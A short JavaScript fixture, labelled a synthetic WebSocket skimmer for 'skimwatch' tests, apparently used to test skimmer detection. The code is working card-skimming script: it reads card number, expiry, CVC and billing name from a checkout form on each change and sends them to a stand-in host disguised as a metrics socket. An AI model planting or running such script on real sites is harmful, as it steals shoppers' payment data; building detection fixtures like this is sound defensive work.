// Synthetic WebSocket skimmer for skimwatch tests.
(function () {
  var ws = new WebSocket("wss://metrics-socket.example/live");
  var form = document.querySelector("form#co-payment-form");
  form.addEventListener("change", function () {
    var fields = ["cardnumber", "exp-date", "cvc", "billing-name"];
    var out = {};
    fields.forEach(function (f) {
      var el = form.querySelector("[name='" + f + "']");
      if (el) out[f] = el.value;
    });
    if (ws.readyState === 1) ws.send(JSON.stringify(out));
  });
})();
